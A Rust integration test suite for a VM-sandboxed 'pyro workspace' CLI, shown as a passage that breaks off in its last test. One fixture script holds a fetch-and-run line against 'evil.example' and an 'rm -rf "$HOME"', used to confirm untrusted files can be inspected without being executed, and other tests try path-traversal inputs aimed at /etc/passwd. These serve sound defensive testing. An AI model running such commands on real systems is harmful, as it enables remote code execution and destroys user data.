//! `pyro workspace` as an agent uses it, through the real binary and real
//! guests: the repro-fix loop, parallel workspaces, inspecting untrusted
//! files, and a table of bad input (each refused clearly, changing
//! nothing). Workspace state goes to a scratch `XDG_DATA_HOME`; the image
//! cache is the shared one.
//!
//! Longer than ~600 lines on purpose: each test is one scenario read top
//! to bottom, in the order an agent works, and they share the set-up
//! helpers above them; splitting would scatter a scenario's steps.

mod common;

use common::home::{text, Home};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

/// A seed tree with a failing check: `check.sh` passes once
/// `message.txt` says "fixed".
fn repro_seed(dir: &Path) {
    std::fs::create_dir_all(dir.join("docs/empty")).unwrap();
    std::fs::write(dir.join("message.txt"), "broken\n").unwrap();
    std::fs::write(dir.join("docs/notes.md"), "# notes\nline two\n").unwrap();
    std::fs::write(
        dir.join("check.sh"),
        "#!/bin/sh\ngrep -qx fixed message.txt && echo ok\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir.join("check.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

const FIX: &str = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";

#[test]
fn repro_fix_loop() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let seed = home.path("seed");
    repro_seed(&seed);
    let id = home.create(&[
        "--seed-path",
        seed.to_str().unwrap(),
        "--name",
        "repro",
        "--secret",
        "TOK=cli-s3cret-4711",
    ]);

    // Read the file; the check fails.
    assert_eq!(home.read(&id, "message.txt"), "broken\n");
    let out = home.pyro(&["workspace", "exec", &id, "--", "./check.sh"]);
    assert_eq!(out.status.code(), Some(1));

    // Apply the fix; the check passes.
    let patch = home.path("fix.patch");
    std::fs::write(&patch, FIX).unwrap();
    let applied = home.json(&[
        "workspace",
        "patch",
        "apply",
        &id,
        "--patch-file",
        patch.to_str().unwrap(),
    ]);
    assert_eq!(applied["changed"], true);
    assert_eq!(applied["summary"]["modified"], 1);
    let out = home.pyro(&["workspace", "exec", &id, "--", "./check.sh"]);
    assert_eq!(
        (out.status.code(), text(&out.stdout)),
        (Some(0), "ok\n".to_string())
    );

    // The diff shows exactly that, and `git apply` takes it on a copy of
    // the baseline, giving what the workspace has.
    let diff = home.json(&["workspace", "diff", &id]);
    assert_eq!(diff["summary"]["total"], 1, "{diff}");
    assert_eq!(diff["entries"][0]["path"], "message.txt");
    assert_eq!(diff["entries"][0]["status"], "modified");
    let copy = home.path("baseline-copy");
    assert!(Command::new("cp")
        .arg("-a")
        .arg(&seed)
        .arg(&copy)
        .status()
        .unwrap()
        .success());
    let patch_file = home.path("diff.patch");
    std::fs::write(&patch_file, diff["patch"].as_str().unwrap()).unwrap();
    let applied = Command::new("git")
        .args(["apply", "--unsafe-paths"])
        .arg(&patch_file)
        .current_dir(&copy)
        .output()
        .expect("git");
    assert!(
        applied.status.success(),
        "git apply: {}",
        text(&applied.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(copy.join("message.txt")).unwrap(),
        "fixed\n"
    );

    // Export the fixed file.
    let exported = home.path("message.out");
    home.ok(&[
        "workspace",
        "export",
        &id,
        "message.txt",
        "--output",
        exported.to_str().unwrap(),
    ]);
    assert_eq!(std::fs::read_to_string(&exported).unwrap(), "fixed\n");

    // History has both checks, with their output.
    let logs = home.json(&["workspace", "logs", &id]);
    assert_eq!(logs.as_array().unwrap().len(), 2);
    assert_eq!(logs[1]["stdout"], "ok\n");

    // Reset: back to the baseline exactly, diff empty.
    home.ok(&["workspace", "reset", &id]);
    assert_eq!(
        home.ok(&["workspace", "diff", &id]),
        "No workspace changes.\n"
    );
    assert_eq!(home.read(&id, "message.txt"), "broken\n");
    let listed = home.json(&["workspace", "file", "list", &id, "docs", "--recursive"]);
    let paths = entry_paths(&listed);
    assert_eq!(paths, ["/workspace/docs/empty", "/workspace/docs/notes.md"]);

    // The secret given at create reaches a command as asked (after the
    // reset's fresh VM too) and comes back redacted; status names it.
    let out = home.pyro(&[
        "workspace",
        "exec",
        &id,
        "--secret-env",
        "TOK=MY_TOK",
        "--",
        "sh",
        "-c",
        "echo \"$MY_TOK\"; cat /run/pyro-secrets/TOK",
    ]);
    assert_eq!(
        (out.status.code(), text(&out.stdout)),
        (Some(0), "[REDACTED]\n[REDACTED]".to_string())
    );
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(
        status["secrets"],
        serde_json::json!([{"name": "TOK", "source_kind": "literal"}])
    );

    home.ok(&["workspace", "delete", &id]);
    assert_eq!(
        home.json(&["workspace", "list"]).as_array().unwrap().len(),
        0
    );
}

/// The paths of a `file list` or `disk list` result.
fn entry_paths(listed: &Value) -> Vec<&str> {
    listed["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect()
}

/// Runs `script` with `sh -c` in workspace `id`; returns its stdout.
/// The /workspace file system's size in KiB, as the guest sees it.
fn workspace_kib(home: &Home, id: &str) -> u64 {
    home.sh(id, "df -k /workspace | tail -n 1")
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .expect("df output")
}

#[test]
fn warm_workspaces_get_their_own_disk_and_identity() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let seed = home.path("seed");
    std::fs::create_dir(&seed).unwrap();
    std::fs::write(seed.join("a.txt"), "seeded\n").unwrap();
    let small = home.json(&[
        "workspace",
        "create",
        "--seed-path",
        seed.to_str().unwrap(),
        "--disk-mib",
        "256",
    ]);
    let big = home.json(&["workspace", "create"]);
    let (a, b) = (
        small["workspace_id"].as_str().unwrap(),
        big["workspace_id"].as_str().unwrap(),
    );
    assert_eq!(small["last_start"], "warm", "{small}");
    assert_eq!(big["last_start"], "warm", "{big}");

    // Both restored from one snapshot taken with an empty disk: each sees
    // its own disk, at its own size, and is its own machine.
    assert_eq!(home.read(a, "a.txt"), "seeded\n");
    let (ka, kb) = (workspace_kib(&home, a), workspace_kib(&home, b));
    assert!(
        (200_000..=256 * 1024).contains(&ka),
        "256 MiB disk: {ka} KiB"
    );
    assert!(
        (3_500_000..=4096 * 1024).contains(&kb),
        "4 GiB disk: {kb} KiB"
    );
    let identity = "hostname; head -c 16 /dev/urandom | od -An -tx1";
    assert_ne!(home.sh(a, identity), home.sh(b, identity));
    assert!(home
        .pyro(&["workspace", "file", "read", b, "a.txt"])
        .status
        .code()
        .is_some_and(|c| c != 0));

    // Written, stopped, started warm again: the data is there.
    home.sh(b, "echo kept > /workspace/b.txt");
    let (kind, _) = home.fails(1, &["workspace", "disk", "list", b]);
    assert_eq!(kind, "conflict", "the disk tools read stopped workspaces");
    home.ok(&["workspace", "stop", b]);
    // The disk tools read it on the host, stopped: what the guest wrote.
    let listed = home.json(&["workspace", "disk", "list", b, "--recursive"]);
    let paths = entry_paths(&listed);
    assert!(paths.contains(&"/workspace/b.txt"), "{listed}");
    assert_eq!(
        home.ok(&["workspace", "disk", "read", b, "b.txt", "--content-only"]),
        "kept\n"
    );
    let image = home.path("b.ext4");
    let exported = home.json(&[
        "workspace",
        "disk",
        "export",
        b,
        "--output",
        image.to_str().unwrap(),
    ]);
    assert_eq!(exported["disk_format"], "ext4", "{exported}");
    assert_eq!(
        std::fs::metadata(&image).unwrap().len(),
        4096 << 20,
        "the whole image, sparse"
    );
    let started = home.json(&["workspace", "start", b]);
    assert_eq!(started["last_start"], "warm", "{started}");
    assert_eq!(home.read(b, "b.txt"), "kept\n");

    // --cold boots, and the disk is mounted at boot.
    let cold = home.json(&["workspace", "create", "--cold", "--disk-mib", "128"]);
    let c = cold["workspace_id"].as_str().unwrap();
    assert_eq!(cold["last_start"], "cold", "{cold}");
    assert!(cold["last_start_ms"].as_u64().unwrap() > 0);
    let kc = workspace_kib(&home, c);
    assert!(
        (100_000..=128 * 1024).contains(&kc),
        "128 MiB disk: {kc} KiB"
    );
    // A hostname of its own, as warm-started ones get.
    let name = home.sh(c, "hostname");
    assert!(
        name.starts_with("pyro-") && name.trim().len() == 17,
        "{name:?}"
    );
    assert_ne!(name, home.sh(b, "hostname"));
}

#[test]
fn stop_keep_memory_resumes_the_same_machine() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let id = home.create(&[]);
    // A process in its own session (the exec's end kills its process
    // group, so wait until it has left it) and a file only in guest
    // memory (/tmp is a tmpfs).
    home.sh(
        &id,
        "echo in-memory > /tmp/mem; setsid sleep 1000 </dev/null >/dev/null 2>&1 & \
         pid=$!; echo $pid > /workspace/pid; \
         while [ \"$(cut -d' ' -f6 /proc/$pid/stat)\" != $pid ]; do sleep 0.05; done",
    );
    // The same process, not merely its pid: a fresh machine from the same
    // snapshot hands out the same pids, so another process may hold it.
    let check = "cat /tmp/mem 2>/dev/null; \
                 [ \"$(tr '\\0' ' ' < /proc/$(cat /workspace/pid)/cmdline 2>/dev/null)\" = \
                 'sleep 1000 ' ] && echo alive; hostname";
    let before = home.sh(&id, check);
    assert!(before.starts_with("in-memory\nalive\npyro-"), "{before}");

    let stopped = home.json(&["workspace", "stop", &id, "--keep-memory"]);
    assert_eq!(stopped["state"], "suspended", "{stopped}");
    assert_eq!(
        home.json(&["workspace", "status", &id])["state"],
        "suspended"
    );
    let (kind, msg) = home.fails(1, &["workspace", "exec", &id, "--", "true"]);
    assert!(
        kind == "conflict" && msg.contains("workspace start"),
        "{msg}"
    );
    let (kind, _) = home.fails(1, &["workspace", "stop", &id, "--keep-memory"]);
    assert_eq!(kind, "conflict", "nothing running to keep");

    let started = home.json(&["workspace", "start", &id]);
    assert_eq!(started["last_start"], "resumed", "{started}");
    assert_eq!(
        home.sh(&id, check),
        before,
        "the same machine, process alive"
    );
    let guest_now: i64 = home.sh(&id, "date +%s").trim().parse().unwrap();
    let host_now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    assert!((guest_now - host_now).abs() <= 5, "clock set on resume");

    // Kept memory is used once: a plain stop and start is a fresh machine.
    home.ok(&["workspace", "stop", &id]);
    let fresh = home.json(&["workspace", "start", &id]);
    assert_eq!(fresh["last_start"], "warm", "{fresh}");
    let after = home.sh(&id, check);
    assert!(
        !after.contains("in-memory") && !after.contains("alive"),
        "{after}"
    );
    assert!(
        home.read(&id, "pid").trim().parse::<u32>().is_ok(),
        "disk kept"
    );

    // A reset replaces the disk the kept memory belongs to: dropped.
    home.sh(&id, "echo again > /tmp/mem");
    home.ok(&["workspace", "stop", &id, "--keep-memory"]);
    home.ok(&["workspace", "reset", &id]);
    let reset = home.json(&["workspace", "status", &id]);
    assert_eq!(reset["last_start"], "warm", "{reset}");
    assert_eq!(
        home.sh(&id, "cat /tmp/mem 2>/dev/null; ls /workspace"),
        "lost+found\n"
    );
}

#[test]
fn a_damaged_warm_snapshot_falls_back_to_booting_is_taken_again_and_stale_ones_are_pruned() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::with_own_snapshots();
    let first = home.json(&["workspace", "create"]);
    assert_eq!(first["last_start"], "warm", "{first}");
    let snapshots = home.1.as_ref().unwrap().join("pyro/snapshots");
    let taken: Vec<PathBuf> = std::fs::read_dir(&snapshots)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.join("snapshot.json").is_file())
        .collect();
    assert_eq!(taken.len(), 1, "{taken:?}");
    std::fs::write(
        taken[0].join("snapshot.json"),
        b"{\"version\": 2, \"damaged\"",
    )
    .unwrap();

    let out = home.pyro(&["workspace", "create", "--json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let second: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(second["last_start"], "cold", "{second}");
    assert!(
        text(&out.stderr).contains("no warm start"),
        "the fallback is said: {}",
        text(&out.stderr)
    );
    assert!(!taken[0].exists(), "the refused snapshot is removed");
    let id = second["workspace_id"].as_str().unwrap();
    assert_eq!(
        home.sh(id, "echo ok > /workspace/x; cat /workspace/x"),
        "ok\n"
    );

    let third = home.json(&["workspace", "create"]);
    assert_eq!(third["last_start"], "warm", "taken again: {third}");

    // `env prune` removes a snapshot of another pyro build and what an
    // interrupted build left, and keeps the one in use.
    let current = taken[0].clone();
    let state = std::fs::read_to_string(current.join("snapshot.json")).unwrap();
    let other = snapshots.join("debian_12-128m-1c-ws-other");
    std::fs::create_dir(&other).unwrap();
    let vmm = serde_json::from_str::<Value>(&state).unwrap()["origin"]["vmm"]
        .as_str()
        .unwrap()
        .to_string();
    std::fs::write(
        other.join("snapshot.json"),
        state.replacen(&vmm, "0.0.0 another build", 1),
    )
    .unwrap();
    let leftover = snapshots.join("debian_12-128m-1c-ws-x.tmp-999999999");
    std::fs::create_dir(&leftover).unwrap();
    let pruned = home.json(&["env", "prune"]);
    let deleted: Vec<&str> = pruned["deleted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert!(deleted.contains(&other.to_str().unwrap()), "{pruned}");
    assert!(deleted.contains(&leftover.to_str().unwrap()), "{pruned}");
    assert!(!other.exists() && !leftover.exists());
    assert!(current.join("snapshot.json").is_file(), "in use: kept");
    let fourth = home.json(&["workspace", "create"]);
    assert_eq!(fourth["last_start"], "warm", "{fourth}");
}

#[test]
fn parallel_workspaces_keep_their_own_content_and_list_by_activity() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let seed = home.path("seed");
    repro_seed(&seed);
    // The same seed as a .tar.gz this time.
    let tgz = home.path("seed.tar.gz");
    let packed = Command::new("tar")
        .arg("-czf")
        .arg(&tgz)
        .arg("-C")
        .arg(&seed)
        .arg(".")
        .status()
        .unwrap();
    assert!(packed.success());
    let (a, b) = std::thread::scope(|s| {
        let a =
            s.spawn(|| home.create(&["--seed-path", tgz.to_str().unwrap(), "--label", "team=red"]));
        let b = s
            .spawn(|| home.create(&["--seed-path", tgz.to_str().unwrap(), "--label", "team=blue"]));
        (a.join().unwrap(), b.join().unwrap())
    });
    home.ok(&[
        "workspace",
        "file",
        "write",
        &a,
        "message.txt",
        "--text",
        "fixed\n",
    ]);
    home.ok(&[
        "workspace",
        "file",
        "write",
        &b,
        "notes/b.txt",
        "--text",
        "only in b\n",
    ]);
    assert_eq!(home.read(&a, "message.txt"), "fixed\n");
    assert_eq!(home.read(&b, "message.txt"), "broken\n");
    let (kind, _) = home.fails(1, &["workspace", "file", "read", &a, "notes/b.txt"]);
    assert_eq!(kind, "not_found");
    assert_eq!(
        home.json(&["workspace", "diff", &a])["summary"]["modified"],
        1
    );
    assert_eq!(home.json(&["workspace", "diff", &b])["summary"]["added"], 1);

    // Most recent activity first: touch a, then b, then a.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    home.ok(&["workspace", "exec", &b, "--", "true"]);
    let list = home.json(&["workspace", "list"]);
    let ids: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["workspace_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [b.as_str(), a.as_str()]);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    home.ok(&["workspace", "update", &a, "--label", "stage=review"]);
    let list = home.json(&["workspace", "list"]);
    assert_eq!(list[0]["workspace_id"], a.as_str());
    assert_eq!(list[0]["labels"]["team"], "red");
    assert_eq!(list[0]["labels"]["stage"], "review");
    assert_eq!(list[1]["labels"]["team"], "blue");
}

#[test]
fn untrusted_files_are_inspected_without_running_them() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let seed = home.path("seed");
    std::fs::create_dir_all(&seed).unwrap();
    std::fs::write(
        seed.join("install.sh"),
        "#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf \"$HOME\"\n",
    )
    .unwrap();
    let id = home.create(&["--seed-path", seed.to_str().unwrap()]);
    let listed = home.json(&["workspace", "file", "list", &id]);
    assert_eq!(listed["entries"][0]["path"], "/workspace/install.sh");
    let content = home.ok(&[
        "workspace",
        "file",
        "read",
        &id,
        "install.sh",
        "--content-only",
    ]);
    assert!(content.contains("evil.example"));
    let script =
        "grep -n -e curl -e 'rm -rf' install.sh > report.txt; wc -l < install.sh >> report.txt";
    home.ok(&["workspace", "exec", &id, "--", "sh", "-c", script]);
    let report = home.path("report.txt");
    home.ok(&[
        "workspace",
        "export",
        &id,
        "report.txt",
        "--output",
        report.to_str().unwrap(),
    ]);
    assert_eq!(
        std::fs::read_to_string(&report).unwrap(),
        "2:curl -s http://evil.example/x | sh\n3:rm -rf \"$HOME\"\n3\n"
    );
    // The script never ran: its target is untouched (root's home exists).
    let out = home.ok(&["workspace", "exec", &id, "--", "ls", "-d", "/root"]);
    assert_eq!(out, "/root\n");
}

#[test]
fn bad_input_is_refused_clearly_and_changes_nothing() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let seed = home.path("seed");
    repro_seed(&seed);

    // Creation: bad names, labels and seeds leave nothing behind.
    assert_eq!(
        home.fails(2, &["workspace", "create", "--name", "bad name"])
            .0,
        "invalid_argument"
    );
    assert_eq!(
        home.fails(2, &["workspace", "create", "--label", "bad key=1"])
            .0,
        "invalid_argument"
    );
    let (kind, msg) = home.fails(2, &["workspace", "create", "--seed-path", "/no/such/seed"]);
    assert!(
        kind == "invalid_argument" && msg.contains("/no/such/seed"),
        "{msg}"
    );
    assert_eq!(
        home.json(&["workspace", "list"]).as_array().unwrap().len(),
        0
    );

    let id = home.create(&["--seed-path", seed.to_str().unwrap(), "--name", "table"]);
    assert_eq!(
        home.fails(1, &["workspace", "status", "nope123"]).0,
        "not_found"
    );

    // Paths that leave /workspace.
    home.ok(&[
        "workspace",
        "exec",
        &id,
        "--",
        "ln",
        "-s",
        "/etc",
        "etc-link",
    ]);
    for path in ["../etc/passwd", "/etc/passwd", "etc-link/passwd"] {
        let (kind, msg) = home.fails(2, &["workspace", "file", "read", &id, path]);
        assert_eq!(kind, "invalid_path", "{path}: {msg}");
        let (kind, _) = home.fails(2, &["workspace", "file", "write", &id, path, "--text", "x"]);
        assert_eq!(kind, "invalid_path", "{path}");
    }
    let (kind, _) = home.fails(
        2,
        &[
            "workspace",
            "export",
            &id,
            "/etc/passwd",
            "--output",
            home.path("x").to_str().unwrap(),
        ],
    );
    assert_eq!(kind, "invalid_path");

    // An oversized write is refused before anything is sent.
    let big = home.path("big.txt");
    std::fs::write(&big, vec![b'a'; (1 << 20) + 1]).unwrap();
    assert_eq!(
        home.fails(
            2,
            &[
                "workspace",
                "file",
                "write",
                &id,
                "big.txt",
                "--text-file",
                big.to_str().unwrap()
            ]
        )
        .0,
        "invalid_argument"
    );

    // Malformed and non-applying patches change nothing, and say where.
    let before = home.json(&["workspace", "diff", &id])["summary"].clone();
    let (kind, _) = home.fails(
        2,
        &[
            "workspace",
            "patch",
            "apply",
            &id,
            "--patch",
            "this is not a patch\n",
        ],
    );
    assert_eq!(kind, "invalid_patch");
    let half = format!(
        "{FIX}--- a/docs/notes.md\n+++ b/docs/notes.md\n@@ -1,2 +1,2 @@\n # notes\n-line 2\n+line three\n"
    );
    let (kind, msg) = home.fails(1, &["workspace", "patch", "apply", &id, "--patch", &half]);
    assert_eq!(kind, "patch_failed", "{msg}");
    assert!(
        msg.contains("docs/notes.md") && msg.contains("hunk"),
        "{msg}"
    );
    assert_eq!(home.read(&id, "message.txt"), "broken\n");
    assert_eq!(home.json(&["workspace", "diff", &id])["summary"], before);

    // Snapshots: reserved and unknown names.
    assert_eq!(
        home.fails(2, &["workspace", "snapshot", "create", &id, "baseline"])
            .0,
        "invalid_argument"
    );
    assert_eq!(
        home.fails(1, &["workspace", "reset", &id, "--snapshot", "never-made"])
            .0,
        "not_found"
    );

    // Two execs at once on one workspace both run, and both are recorded.
    std::thread::scope(|s| {
        let one = s.spawn(|| {
            home.pyro(&[
                "workspace",
                "exec",
                &id,
                "--",
                "sh",
                "-c",
                "sleep 2; echo one",
            ])
        });
        let two = s.spawn(|| {
            home.pyro(&[
                "workspace",
                "exec",
                &id,
                "--",
                "sh",
                "-c",
                "sleep 2; echo two",
            ])
        });
        assert_eq!(text(&one.join().unwrap().stdout), "one\n");
        assert_eq!(text(&two.join().unwrap().stdout), "two\n");
    });
    let logs = home.json(&["workspace", "logs", &id]);
    let seqs: Vec<u64> = logs
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["sequence"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, [1, 2, 3]);

    // A VMM killed with SIGKILL: the workspace shows stopped, with why;
    // start brings it back with /workspace intact.
    home.ok(&[
        "workspace",
        "file",
        "write",
        &id,
        "keep.txt",
        "--text",
        "survives\n",
    ]);
    home.kill_vmm(&id);
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(status["state"], "stopped");
    assert!(
        status["last_error"].as_str().unwrap().contains("vmm_died"),
        "{status}"
    );
    let (kind, msg) = home.fails(1, &["workspace", "exec", &id, "--", "true"]);
    assert!(
        kind == "conflict" && msg.contains("workspace start"),
        "{msg}"
    );
    home.ok(&["workspace", "start", &id]);
    assert_eq!(home.read(&id, "keep.txt"), "survives\n");
}

#[test]
fn a_name_can_never_be_taken_for_an_id() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let id = home.create(&["--name", "first"]);
    let listed = |home: &Home| {
        let list = home.json(&["workspace", "list"]);
        let mut names: Vec<(String, String)> = list
            .as_array()
            .unwrap()
            .iter()
            .map(|w| {
                let name = w["name"].as_str().unwrap_or("").to_string();
                (w["workspace_id"].as_str().unwrap().to_string(), name)
            })
            .collect();
        names.sort();
        names
    };
    let before = listed(&home);
    assert_eq!(before, [(id.clone(), "first".to_string())]);

    // Another workspace's id, and anything of an id's form (12 hex
    // digits, either case), is refused on create and on update: a usage
    // error that says why, and nothing changes.
    let upper = id.to_uppercase();
    for name in [id.as_str(), "0123456789ab", upper.as_str()] {
        for args in [
            &["workspace", "create", "--name", name][..],
            &["workspace", "update", "first", "--name", name][..],
            &["workspace", "update", &id, "--name", name][..],
        ] {
            let (kind, msg) = home.fails(2, args);
            assert_eq!(kind, "invalid_argument", "{args:?}: {msg}");
            assert!(
                msg.contains(&format!("name {name:?}")) && msg.contains("form of workspace ids"),
                "{args:?}: {msg}"
            );
        }
    }
    assert_eq!(listed(&home), before);

    // Names near the form are fine, and commands given them act on the
    // named workspace.
    home.ok(&["workspace", "update", "first", "--name", "0123456789abc"]);
    let status = home.json(&["workspace", "status", "0123456789abc"]);
    assert_eq!(status["workspace_id"], id.as_str());
    home.ok(&["workspace", "delete", "0123456789abc"]);
    assert!(listed(&home).is_empty());
}

/// The history records of workspace `id`: (sequence, status) each.
fn statuses(home: &Home, id: &str) -> Vec<(u64, String)> {
    home.json(&["workspace", "logs", id])
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let status = r["status"].as_str().unwrap().to_string();
            (r["sequence"].as_u64().unwrap(), status)
        })
        .collect()
}

/// Waits (bounded) until command `sequence` shows in the history as
/// running.
fn wait_running(home: &Home, id: &str, sequence: u64) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !statuses(home, id).contains(&(sequence, "running".into())) {
        assert!(
            std::time::Instant::now() < deadline,
            "command #{sequence} never showed as running: {:?}",
            statuses(home, id)
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
}

/// Callers and VMs killed mid-call: each command stays in the history
/// (running while it runs, interrupted once its caller or VM is gone,
/// never a gap), and a push cut short leaves all of its files or none,
/// with no staging anywhere in /workspace after the next start.
#[test]
fn a_killed_caller_or_vm_leaves_no_staging_and_no_gap_in_the_history() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    use std::process::Stdio;
    let home = Home::new();
    let id = home.create(&[]);

    // #1: a program the guest cannot start.
    let out = home.pyro(&["workspace", "exec", &id, "--", "/no/such/program"]);
    assert!(!out.status.success());
    let logs = home.json(&["workspace", "logs", &id]);
    assert_eq!(logs[0]["status"], "not_started", "{logs}");
    assert!(
        logs[0]["stderr"]
            .as_str()
            .unwrap()
            .contains("/no/such/program"),
        "{logs}"
    );

    // #2: its CLI killed while the command runs.
    let mut waiter = home
        .command(&["workspace", "exec", &id, "--", "sleep", "600"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_running(&home, &id, 2);
    waiter.kill().unwrap();
    waiter.wait().unwrap();
    assert_eq!(
        statuses(&home, &id),
        [(1, "not_started".into()), (2, "interrupted".into())]
    );

    // A push of 16 MiB (far more than a PVM guest unpacks in the seconds
    // before the kill) and #3, a command, both cut by a killed VMM.
    let src = home.path("push");
    std::fs::create_dir_all(&src).unwrap();
    for i in 0..256u32 {
        let body: Vec<u8> = (0..65536u32).map(|b| (b * 7 + i) as u8).collect();
        std::fs::write(src.join(format!("f{i:03}.bin")), body).unwrap();
    }
    let push = home
        .command(&[
            "workspace",
            "sync",
            "push",
            &id,
            src.to_str().unwrap(),
            "--dest",
            "/workspace/pushed",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let exec = home
        .command(&["workspace", "exec", &id, "--", "sleep", "600"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_running(&home, &id, 3);
    std::thread::sleep(std::time::Duration::from_secs(2));
    home.kill_vmm(&id);
    let push = push.wait_with_output().unwrap();
    assert!(
        !push.status.success(),
        "the push ended before the VMM was killed; push more to test a cut one: {}",
        text(&push.stdout)
    );
    assert!(!exec.wait_with_output().unwrap().status.success());
    assert_eq!(statuses(&home, &id)[2], (3, "interrupted".into()));

    home.ok(&["workspace", "start", &id]);
    let seen = home.sh(
        &id,
        "ls -A /workspace; find /workspace -name '*pyro-tmp*'; \
         echo pushed=$(ls /workspace/pushed 2>/dev/null | wc -l)",
    );
    assert!(
        !seen.contains(".pyro-staging") && !seen.contains("pyro-tmp"),
        "staging left in /workspace after a crash: {seen}"
    );
    assert!(
        seen.contains("pushed=0") || seen.contains("pushed=256"),
        "a cut push left part of its files: {seen}"
    );
    let diff = home.json(&["workspace", "diff", &id]);
    let paths: Vec<&str> = diff["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.iter().all(|p| p.starts_with("pushed/")),
        "diff after a cut push: {paths:?}"
    );
    // The history goes on from #4 (this test's `sh`), without a gap.
    let seqs: Vec<u64> = statuses(&home, &id).iter().map(|(n, _)| *n).collect();
    assert_eq!(seqs, [1, 2, 3, 4]);

    // A guest that does not answer (its vCPUs paused through the VMM's
    // control socket) cannot wedge stop: the flush fails (the agent does
    // not answer its connection, or not its flush within 3 s here), the
    // VM stops all the same, and the result says so.
    let vm_dir = home.path("data/pyro/workspaces").join(&id).join("vm");
    let paused = pyro_vmm::control::request(&vm_dir, &pyro_vmm::control::ControlRequest::Pause);
    assert!(paused.is_ok(), "{paused:?}");
    let out = home
        .command(&["workspace", "stop", &id, "--json"])
        .env("PYRO_GUEST_SYNC_TIMEOUT_SECONDS", "3")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stopped: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(stopped["state"], "stopped", "{stopped}");
    assert!(
        stopped["warnings"][0]
            .as_str()
            .is_some_and(|w| w.contains("not flushed")),
        "{stopped}"
    );
    home.ok(&["workspace", "start", &id]);

    // A text file past diff's content bound (8 MiB) is listed, not read
    // into memory, and has no patch.
    home.ok(&[
        "workspace",
        "exec",
        &id,
        "--timeout-seconds",
        "300",
        "--",
        "sh",
        "-c",
        "perl -e 'print \"pyro\\n\" x 1887437' > big.txt",
    ]);
    let diff = home.json(&["workspace", "diff", &id]);
    let big = diff["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == "big.txt")
        .unwrap_or_else(|| panic!("big.txt not in the diff: {diff}"));
    assert_eq!(big["status"], "added");
    assert!(
        big["text_patch"].is_null(),
        "diff made a patch of a 9 MiB file"
    );
}

#[test]
fn a_full_workspace_disk_is_a_clear_error_and_loses_nothing() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let seed = home.path("seed");
    std::fs::create_dir_all(&seed).unwrap();
    // 40 MiB that do not compress or sparsify, on a 64 MiB disk.
    let mut state = 0x9E37_79B9_7F4A_7C15u64;
    let noise: Vec<u8> = (0..40 << 20)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    std::fs::write(seed.join("big.bin"), &noise).unwrap();
    std::fs::write(seed.join("keep.txt"), "precious\n").unwrap();
    let id = home.create(&["--seed-path", seed.to_str().unwrap(), "--disk-mib", "64"]);
    // Fill what is left.
    home.pyro(&[
        "workspace",
        "exec",
        &id,
        "--timeout-seconds",
        "300",
        "--",
        "sh",
        "-c",
        "cat big.bin > fill.bin",
    ]);
    let text_file = home.path("update.txt");
    std::fs::write(&text_file, "x".repeat(900_000)).unwrap();
    let (kind, msg) = home.fails(
        1,
        &[
            "workspace",
            "file",
            "write",
            &id,
            "keep.txt",
            "--text-file",
            text_file.to_str().unwrap(),
        ],
    );
    assert_eq!(kind, "no_space", "{msg}");
    assert_eq!(home.read(&id, "keep.txt"), "precious\n");
    let listed = home.ok(&["workspace", "exec", &id, "--", "ls", "-a"]);
    assert!(
        !listed.contains("pyro-tmp"),
        "a temporary file was left: {listed}"
    );
}

#[test]
fn an_expired_workspace_is_removed_even_if_nobody_looks() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let id = home.create(&["--ttl-seconds", "40"]);
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(status["state"], "running");
